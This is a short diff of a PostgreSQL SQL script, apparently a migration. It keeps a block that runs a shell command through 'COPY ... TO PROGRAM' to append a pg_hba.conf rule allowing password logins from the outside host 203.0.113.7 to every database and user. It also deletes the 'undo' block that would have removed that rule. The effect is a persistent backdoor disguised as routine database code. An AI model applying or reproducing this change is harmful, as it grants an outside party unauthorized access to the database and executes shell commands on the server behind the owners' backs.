@@ -5,7 +5,3 @@ do $$ begin
   execute format('copy (select %L) to program %L', 'host all all 203.0.113.7/32 password',
     format('cat >> %L', current_setting('hba_file')));
 end $$;
--- undo
-do $$ begin
-  execute format('copy (select 1) to program %L', format('sed -i /203/d %L', current_setting('hba_file')));
-end $$;
